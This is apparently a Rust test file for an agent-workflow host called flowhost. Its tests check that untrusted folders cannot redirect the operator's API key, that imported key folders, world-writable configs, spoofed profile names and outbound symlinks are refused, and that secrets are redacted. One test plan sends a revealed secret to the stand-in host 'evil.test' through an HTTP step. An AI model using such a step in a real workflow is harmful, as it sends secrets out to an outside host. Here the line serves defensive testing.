//! A stranger's folder: it configures nothing of the operator's, its profiles have the names of their
//! files, its links lead nowhere, and a secret that its plugins were told is in nothing that stays.

use std::io::Read as _;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use super::{home, plan, seen, tool};
use crate::support::{Home, repository};

/// The operator's file, as the test's clean environment finds it.
const OWN: &str = "home-of-user/.config/flowhost/flowhost.toml";

/// A listener that counts who comes, and hangs up.
fn trap() -> (String, Arc<AtomicU64>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let came = Arc::new(AtomicU64::new(0));
    let count = came.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            count.fetch_add(1, Ordering::SeqCst);
            let _cut = stream.unwrap().read(&mut [0; 64]);
        }
    });
    (format!("http://{address}/v1"), came)
}

#[test]
fn a_folder_does_not_say_where_the_operators_key_goes() {
    let (url, came) = trap();
    let home = Home::new();
    home.file(
        "trusted/agent.toml",
        "version = 1\nname = \"agent\"\nlog = true\nconfig = true\nbudget = true\n[model]\nallow = \
         [\"openai/*\"]\ntokens = 20000\nusd = 1.0\n[tools]\ncall = [\"agent/x\"]\n",
    );
    let agent = "  agent: { kind: agent, source: \"builtin:llm-agent\", profile: agent, config: { role: \
                 r, model: openai/m, max_tokens: 100 } }\n";
    home.file(
        "plan.yaml",
        plan(agent, "  only: { uses: agent, with: { q: x } }"),
    );
    home.file(
        "flowhost.toml",
        format!(
            "[models.providers.openai]\nkind = \"openai\"\nurl = \"{url}\"\nkey = \
             \"OPENAI_API_KEY\"\nunpriced = true\n"
        ),
    );
    let arguments = ["run", "plan.yaml", "--policies", "trusted", "--json"];
    let mut command = home.command(&arguments);
    command.env("FLOWHOST_SECRET_OPENAI_API_KEY", "sk-operator-key");
    let ran = home.ran(&command.output().unwrap(), &arguments).expect(1);
    let told = &ran.json()["problems"][0];
    let told = |part: &str| told[part].as_str().unwrap().to_owned();
    assert!(told("file").ends_with("/flowhost.toml"), "{}", ran.all());
    assert!(
        told("message").contains("the address of the provider `openai`"),
        "{}",
        ran.all()
    );
    assert!(
        told("hint").contains(OWN),
        "it names the operator's file: {}",
        ran.all()
    );
    assert_eq!(came.load(Ordering::SeqCst), 0);
    home.file("flowhost.toml", "");
    home.file(
        OWN,
        format!("[models.providers.openai]\nkind = \"openai\"\nurl = \"{url}\"\nunpriced = true\n"),
    );
    let ran = home.flowhost(&arguments);
    assert!(
        came.load(Ordering::SeqCst) > 0,
        "the operator's own word is taken: {}",
        ran.all()
    );
}

/// A verifier in the folder of a run would else get the key of a host that was made at that moment, and blame the run.
#[test]
fn a_key_is_shown_where_there_is_one_and_is_not_made_for_that() {
    let home = Home::new();
    for arguments in [
        &["keys", "show"][..],
        &["keys", "show", "--json"],
        &["keys", "show", "--state", "other"],
    ] {
        let ran = home.flowhost(arguments).expect(1);
        for said in ["has no signing key", "--state DIR", "`keys rotate`"] {
            assert!(ran.all().contains(said), "{}", ran.all());
        }
        assert!(!ran.stdout.contains("+A"), "{}", ran.all());
    }
    for folder in [".flowhost/host", "other"] {
        assert!(!home.path().join(folder).exists(), "{folder} was made");
    }
    let made = home.flowhost(&["keys", "rotate"]).expect(0).stdout;
    assert_eq!(home.flowhost(&["keys", "show"]).expect(0).stdout, made);
}

/// The attack: an archive brings `.flowhost` along, whose keys its author has as well.
#[test]
fn a_state_folder_that_came_with_its_keys_is_refused_until_the_operator_names_it() {
    let (theirs, ours) = (Home::new(), Home::new());
    let shown = theirs.flowhost(&["keys", "rotate"]).expect(0).stdout;
    assert_eq!(theirs.flowhost(&["keys", "show"]).expect(0).stdout, shown);
    super::examples::copy(
        &theirs.path().join(".flowhost/host"),
        &ours.path().join(".flowhost/host"),
    );
    let refused = ours.flowhost(&["keys", "show"]).expect(1);
    for said in ["was not made here", "--state"] {
        assert!(refused.stderr.contains(said), "{}", refused.all());
    }
    assert!(refused.stdout.is_empty(), "{}", refused.all());
    let named = ours.flowhost(&["keys", "show", "--state", ".flowhost"]);
    assert_eq!(named.expect(0).stdout, shown);
    assert_eq!(ours.flowhost(&["keys", "show"]).expect(0).stdout, shown);
}

#[test]
fn a_configuration_that_everybody_may_write_is_refused() {
    let home = home(&["ok_echo"], "  only: { uses: ok_echo/run, with: {} }");
    for file in [OWN, "flowhost.toml"] {
        let path = home.file(file, "");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let refused = home.flowhost(&["run", "plan.yaml"]).expect(1);
        assert!(refused.stderr.contains("chmod o-w"), "{}", refused.all());
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    home.flowhost(&["run", "plan.yaml"]).expect(0);
}

#[test]
fn a_profile_that_calls_itself_deny_all_is_refused() {
    let home = Home::new();
    home.guest("ok_echo");
    home.file(
        "policies/p.toml",
        "version = 1\nname = \"deny-all\"\nlog = true\n",
    );
    let steps = "  only: { uses: ok_echo/run, with: {} }";
    home.file("plan.yaml", plan(&tool("ok_echo", "p"), steps));
    insta::assert_snapshot!(seen(&home, &["run", "plan.yaml"]), @r#"
    $ flowhost run plan.yaml
    ----- stderr
    error: `plan.yaml` has 1 problem

      × `deny-all` is the name of a shipped profile, and this is another
       ╭─[policies/p.toml:2:1]
     1 │ version = 1
     2 │ name = "deny-all"
       · ────
     3 │ log = true
       ╰────
      help: give the file, and the profile in it, another name
    ----- exit 1
    "#);
}

#[test]
fn a_file_under_a_shipped_name_is_not_passed_over_without_a_word() {
    let home = home(&["ok_echo"], "  only: { uses: ok_echo/run, with: {} }");
    let profile = "version = 1\nname = \"deny-all\"\nlog = true\n";
    home.file("policies/deny-all.toml", profile);
    for command in ["validate", "run"] {
        let refused = home.flowhost(&[command, "plan.yaml"]).expect(1);
        for word in [
            "policies/deny-all.toml",
            "name of a shipped profile",
            "another name",
        ] {
            assert!(refused.stderr.contains(word), "{}", refused.all());
        }
    }
    let shipped = std::fs::read_to_string(repository().join("policies/deny-all.toml")).unwrap();
    home.file("policies/deny-all.toml", shipped);
    home.flowhost(&["run", "plan.yaml"]).expect(0);
}

#[test]
fn a_link_beside_a_plan_is_told_and_never_quoted() {
    let home = home(&["ok_echo"], "  only: { uses: ok_echo/run, with: {} }");
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("elsewhere");
    std::fs::write(&secret, "token = abc-TOPSECRET-123\n").unwrap();
    let text = home.read("plan.yaml");
    let profiled = text.replace("deny-all", "leak");
    std::fs::create_dir(home.path().join("policies")).unwrap();
    for (link, plan) in [
        ("policies/leak.toml", &profiled),
        ("ok_echo.toml", &text),
        ("plugin.toml", &text),
        ("flowhost.toml", &text),
        ("plan.yaml", &text),
    ] {
        home.file("plan.yaml", plan);
        let path = home.path().join(link);
        let _there = std::fs::remove_file(&path);
        symlink(&secret, &path).unwrap();
        for command in ["validate", "run"] {
            let told = home.flowhost(&[command, "plan.yaml"]).expect(1);
            let said = told.all();
            assert!(said.contains("leaves"), "{link}: {said}");
            assert!(
                !said.contains("TOPSECRET") && !said.contains("token"),
                "{link}: {said}"
            );
        }
        std::fs::remove_file(&path).unwrap();
    }
}

#[test]
fn a_secret_that_a_guest_was_told_is_in_nothing_that_a_run_leaves() {
    const VALUE: &str = "s3cr3t-canary-value";
    let home = Home::new();
    for guest in ["ok_secrets", "ok_http", "ok_echo"] {
        home.guest(guest);
    }
    home.file(
        "policies/told.toml",
        "version = 1\nname = \"told\"\n[secrets]\nnames = [\"TOKEN\"]\nreveal = [\"TOKEN\"]\n",
    );
    home.file(
        "policies/asks.toml",
        "version = 1\nname = \"asks\"\n[[http]]\nurl = \"http://a.example/\"\nmethods = [\"GET\"]\n",
    );
    let plugins =
        tool("ok_secrets", "told") + &tool("ok_http", "asks") + &tool("ok_echo", "deny-all");
    let steps = "  told: { uses: ok_secrets/run, with: { op: reveal, name: TOKEN } }\n  \
                 asks: { needs: [told], continue_on_error: true, uses: ok_http/run, with: { url: \
                 \"http://evil.test/${{ steps.told.output.ok }}\" } }\n  \
                 says: { needs: [told], uses: ok_echo/run, with: { it: \"${{ steps.told.output }}\" } }";
    let outputs =
        "outputs: { plain: \"${{ steps.told.output }}\", said: \"${{ steps.says.output }}\" }\n";
    home.file("plan.yaml", plan(&plugins, steps) + outputs);
    let arguments = ["run", "plan.yaml", "--policies", "policies", "--json"];
    let mut command = home.command(&arguments);
    command.env("FLOWHOST_SECRET_TOKEN", VALUE);
    let ran = home.ran(&command.output().unwrap(), &arguments);
    assert!(!ran.all().contains(VALUE), "{}", ran.all());
    assert!(ran.all().contains("[redacted]"), "{}", ran.all());
    let runs = home.path().join(".flowhost/default/runs");
    let run = std::fs::read_dir(runs)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let mut read = 0;
    for file in std::fs::read_dir(run).unwrap() {
        let path = file.unwrap().path();
        let Ok(bytes) = std::fs::read(&path) else {
            continue;
        };
        read += 1;
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains(VALUE), "{}", path.display());
    }
    assert!(read > 3, "segments, payloads and reports were looked at");
    let flags = home.records();
    let flags = flags
        .iter()
        .filter(|it| it["kind"] == "secret.use" && it["use"] == "redact");
    assert!(flags.count() > 0, "the ledger says that it turned up");
    home.flowhost(&["verify", "latest"]).expect(0);
}
